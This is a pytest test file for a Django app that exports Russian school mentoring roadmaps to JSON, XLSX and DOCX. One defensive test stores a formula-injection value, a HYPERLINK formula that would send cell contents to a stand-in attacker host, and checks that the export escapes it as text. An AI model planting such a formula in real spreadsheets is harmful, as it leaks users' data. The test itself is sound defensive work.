"""Exports of a template and of an organization's roadmap: JSON, XLSX and DOCX as schools file them."""

from __future__ import annotations

import io
import json
from datetime import date

import docx
import openpyxl
import pytest
from docx.enum.section import WD_ORIENT
from docx.oxml.ns import qn

from mentoring.roadmaps.deadlines import due_date
from mentoring.roadmaps.exporting import (
    HEADERS,
    export_docx,
    export_json,
    export_xlsx,
    roadmap_rows,
)
from mentoring.roadmaps.models import (
    ItemCheckpoint,
    ItemStatus,
    Roadmap,
    RoadmapItem,
    RoadmapStatus,
    RoadmapTemplate,
    TemplateItem,
)
from mentoring.roadmaps.tests.test_seed_template import ITEM_NUMBERS

pytestmark = pytest.mark.django_db


@pytest.fixture
def template() -> RoadmapTemplate:
    return RoadmapTemplate.objects.get(code="sechenovsky-2021")


@pytest.fixture
def roadmap(world, template) -> Roadmap:
    """The school's roadmap made from the items of the template that fall to schools."""
    roadmap = Roadmap.objects.create(
        template=template,
        organization=world.school,
        year=2021,
        title="Дорожная карта внедрения ЦМН в МБОУ Сеченовская СШ на 2021 год",
        status=RoadmapStatus.APPROVED,
        order_number="15-о",
        order_date=date(2021, 2, 19),
    )
    items = TemplateItem.objects.filter(section__template=template).select_related("section")
    position = 0
    for item in items.order_by("section__position", "position"):
        if "school" not in item.organization_kinds:
            continue
        position += 1
        RoadmapItem.objects.create(
            roadmap=roadmap,
            template_item=item,
            section_number=item.section.number,
            section_title=item.section.title,
            number=item.number,
            title=item.title,
            sub_points=item.sub_points,
            deadline_text=item.deadline_text,
            deadline_rule=item.deadline_rule,
            due_date=due_date(item.deadline_rule),
            responsible_text=item.responsible_text,
            result_text=item.result_text,
            document_kind=item.document_kind,
            position=position,
        )
    return roadmap


def school_numbers() -> list[str]:
    return [
        item.number
        for item in TemplateItem.objects.filter(section__template__code="sechenovsky-2021").order_by(
            "section__position", "position"
        )
        if "school" in item.organization_kinds
    ]


# --- rows --------------------------------------------------------------------------------------------


def test_the_rows_of_a_template_are_its_sections_and_items_in_order(template, django_assert_max_num_queries):
    with django_assert_max_num_queries(2):
        sections = roadmap_rows(template)
    assert [section.number for section in sections] == ["1", "2", "3", "4", "5", "6"]
    assert [item.number for section in sections for item in section.items] == ITEM_NUMBERS


def test_the_rows_of_a_roadmap_come_from_its_own_items_grouped_by_section(
    roadmap, django_assert_max_num_queries
):
    item = roadmap.items.get(number="4.4")
    item.title = "Организация работы наших наставнических пар:"
    item.save()
    with django_assert_max_num_queries(2):
        sections = roadmap_rows(roadmap)
    assert [section.number for section in sections] == ["1", "2", "3", "4", "5", "6"]
    numbers = [item.number for section in sections for item in section.items]
    assert numbers == school_numbers()
    assert "1.2" not in numbers  # the department's own item
    titles = {item.number: item.title for section in sections for item in section.items}
    assert titles["4.4"] == "Организация работы наших наставнических пар:"


# --- JSON --------------------------------------------------------------------------------------------


def test_the_json_of_a_template_has_every_item_with_its_rule_and_dates(template):
    data = export_json(template)
    assert json.loads(json.dumps(data, ensure_ascii=False)) == data
    assert data["code"] == "sechenovsky-2021"
    assert data["year"] == 2021
    items = {item["number"]: item for section in data["sections"] for item in section["items"]}
    assert list(items) == ITEM_NUMBERS
    assert items["1.1"]["due_date"] == "15.02.2021"
    assert items["1.1"]["responsible_text"] == "Руководители ОО"
    assert items["1.1"]["result_text"] == "Дорожные карты"
    assert items["3.3"]["deadline_rule"] == {"kind": "before_month", "year": 2021, "month": 12}
    assert items["3.3"]["due_date"] == "30.11.2021"
    assert [point["date"] for point in items["2.1"]["due_dates"]] == [
        "31.03.2021",
        "30.06.2021",
        "30.09.2021",
        "31.12.2021",
    ]
    assert items["2.1"]["due_dates"][0]["label"] == "I квартал"
    assert items["4.3"]["due_dates"] == []
    assert items["4.3"]["due_date"] is None
    assert len(items["4.4"]["sub_points"]) == 5
    assert items["1.5"]["document_kind"] == "Соглашение с организацией-партнёром"
    assert items["1.2"]["for_department"] is True


def test_the_json_of_a_roadmap_uses_the_owners_dates_and_shows_execution(roadmap):
    item_4_3 = roadmap.items.get(number="4.3")
    item_4_3.due_date = date(2021, 3, 15)
    item_4_3.status = ItemStatus.DONE
    item_4_3.done_on = date(2021, 3, 12)
    item_4_3.save()
    item_5_1 = roadmap.items.get(number="5.1")
    ItemCheckpoint.objects.create(item=item_5_1, label="I квартал", due_date=date(2021, 4, 5))
    ItemCheckpoint.objects.create(item=item_5_1, label="II квартал", due_date=date(2021, 7, 5))
    data = export_json(roadmap)
    assert data["type"] == "roadmap"
    assert data["organization"]["code"] == "sech-school-1"
    assert data["order_date"] == "19.02.2021"
    assert data["approved_by"] == "Утверждена приказом МБОУ Сеченовская СШ от 19.02.2021 № 15-о"
    items = {item["number"]: item for section in data["sections"] for item in section["items"]}
    assert items["4.3"]["due_date"] == "15.03.2021"
    assert items["4.3"]["status_label"] == "Выполнено"
    assert items["4.3"]["done_on"] == "12.03.2021"
    assert items["5.1"]["due_dates"] == [
        {"label": "I квартал", "date": "05.04.2021"},
        {"label": "II квартал", "date": "05.07.2021"},
    ]
    assert items["1.1"]["due_date"] == "15.02.2021"
    assert items["4.4"]["due_dates"] == []


# --- XLSX --------------------------------------------------------------------------------------------


def xlsx_rows(data: bytes) -> tuple[openpyxl.worksheet.worksheet.Worksheet, list[tuple[object, ...]]]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return sheet, list(sheet.iter_rows(values_only=True))


def test_the_xlsx_has_the_five_columns_of_the_seed_a_frozen_header_and_merged_sections(template):
    sheet, rows = xlsx_rows(export_xlsx(template))
    assert rows[0][0].startswith("Утверждён приказом управления образования")
    assert rows[1][0].startswith("План мероприятий (дорожная карта)")
    assert list(rows[2]) == HEADERS
    assert sheet.freeze_panes == "A4"
    assert sheet.page_setup.orientation == "landscape"
    assert rows[3][0].startswith("1. Нормативное правовое регулирование")
    merged = {str(cell_range) for cell_range in sheet.merged_cells.ranges}
    assert "A4:E4" in merged
    item_rows = [row for row in rows[3:] if row[1] is not None]
    assert [row[0] for row in item_rows] == ITEM_NUMBERS
    by_number = {row[0]: row for row in item_rows}
    assert by_number["1.1"][1:] == (
        "Разработка дорожных карт внедрения ЦМН в образовательных организациях",
        "до 15.02.2021 г.",
        "Руководители ОО",
        "Дорожные карты",
    )
    assert by_number["4.4"][1].split("\n") == [
        "Организация работы наставнических пар или групп:",
        "– встреча-знакомство;",
        "– пробная встреча;",
        "– встреча-планирование;",
        "– совместная работа наставника и наставляемого (комплекс последовательных встреч с обязательным "
        "заполнением обратной связи);",
        "– итоговая встреча.",
    ]
    assert sheet["B5"].alignment.wrap_text is True


def test_text_that_looks_like_a_formula_is_written_as_text_in_the_xlsx(roadmap):
    item = roadmap.items.get(number="1.1")
    item.title = '=HYPERLINK("http://evil.example/?"&A1)'
    item.result_text = "@SUM(1+1)\x07"
    item.save()
    sheet, rows = xlsx_rows(export_xlsx(roadmap))
    row = next(row for row in rows if row[0] == "1.1")
    assert row[1] == '\'=HYPERLINK("http://evil.example/?"&A1)'
    assert row[4] == "'@SUM(1+1)"
    for cells in sheet.iter_rows():
        for cell in cells:
            assert cell.data_type != "f"
    assert rows[0][0] == "Утверждена приказом МБОУ Сеченовская СШ от 19.02.2021 № 15-о"


# --- DOCX --------------------------------------------------------------------------------------------


def cell_lines(cell) -> list[str]:
    return [paragraph.text for paragraph in cell.paragraphs]


def test_the_docx_is_landscape_a4_with_the_seeds_heading_and_table(template):
    document = docx.Document(io.BytesIO(export_docx(template)))
    page = document.sections[0]
    assert page.orientation == WD_ORIENT.LANDSCAPE
    assert (round(page.page_width.mm), round(page.page_height.mm)) == (297, 210)
    texts = [paragraph.text for paragraph in document.paragraphs if paragraph.text]
    assert (
        texts[0]
        == "Утверждён приказом управления образования администрации Сеченовского муниципального района"
    )
    assert texts[1] == "План мероприятий (дорожная карта)"
    assert texts[2].startswith("реализации методологии (целевой модели) наставничества обучающихся")
    assert texts[2].endswith("на территории Сеченовского муниципального района на 2021 год.")

    [table] = document.tables
    rows = table.rows
    assert [cell.text for cell in rows[0].cells] == HEADERS
    assert [cell.text for cell in rows[1].cells] == ["1", "2", "3", "4", "5"]
    for header_row in rows[:2]:
        assert header_row._tr.trPr.find(qn("w:tblHeader")) is not None

    section_rows = [row for row in rows[2:] if len({id(cell._tc) for cell in row.cells}) == 1]
    assert [row.cells[0].text.split(".")[0] for row in section_rows] == ["1", "2", "3", "4", "5", "6"]
    assert (
        section_rows[5].cells[0].text
        == "6. Контроль реализации мероприятий по внедрению целевой модели наставничества:"
    )

    item_rows = [
        row for row in rows[2:] if row not in section_rows and len({id(c._tc) for c in row.cells}) == 5
    ]
    assert [row.cells[0].text for row in item_rows] == ITEM_NUMBERS
    by_number = {row.cells[0].text: row for row in item_rows}
    assert (
        by_number["1.1"].cells[1].text
        == "Разработка дорожных карт внедрения ЦМН в образовательных организациях"
    )
    assert [cell.text for cell in by_number["3.3"].cells[2:]] == [
        "до декабря 2021",
        "Управление образования, руководители ОО, ДО",
        'Принято участие в региональном конкурсе профессионального мастерства "Наставник52"',
    ]
    assert cell_lines(by_number["6.1"].cells[1]) == [
        "на уровне образовательных организаций:",
        "– контроль реализации ЦМН;",
        "– контроль проведения программ наставничества",
    ]
    assert len(cell_lines(by_number["4.4"].cells[1])) == 6


def test_the_docx_of_a_roadmap_has_its_own_items_and_survives_control_characters(roadmap):
    item = roadmap.items.get(number="2.2")
    item.title = "Перечень\x0b партнёров\x01 района"
    item.save()
    document = docx.Document(io.BytesIO(export_docx(roadmap)))
    texts = [paragraph.text for paragraph in document.paragraphs if paragraph.text]
    assert texts[0] == "Утверждена приказом МБОУ Сеченовская СШ от 19.02.2021 № 15-о"
    assert texts[1] == "Дорожная карта внедрения ЦМН в МБОУ Сеченовская СШ на 2021 год"
    numbers = [row.cells[0].text for row in document.tables[0].rows[2:] if row.cells[0].text in ITEM_NUMBERS]
    assert numbers == school_numbers()
    row = next(row for row in document.tables[0].rows if row.cells[0].text == "2.2")
    assert row.cells[1].text == "Перечень партнёров района"


def test_a_draft_roadmap_is_marked_as_a_project(roadmap):
    roadmap.status = RoadmapStatus.DRAFT
    roadmap.order_number = ""
    roadmap.order_date = None
    roadmap.save()
    assert export_json(roadmap)["approved_by"] == "Проект. МБОУ Сеченовская СШ. Статус: черновик"
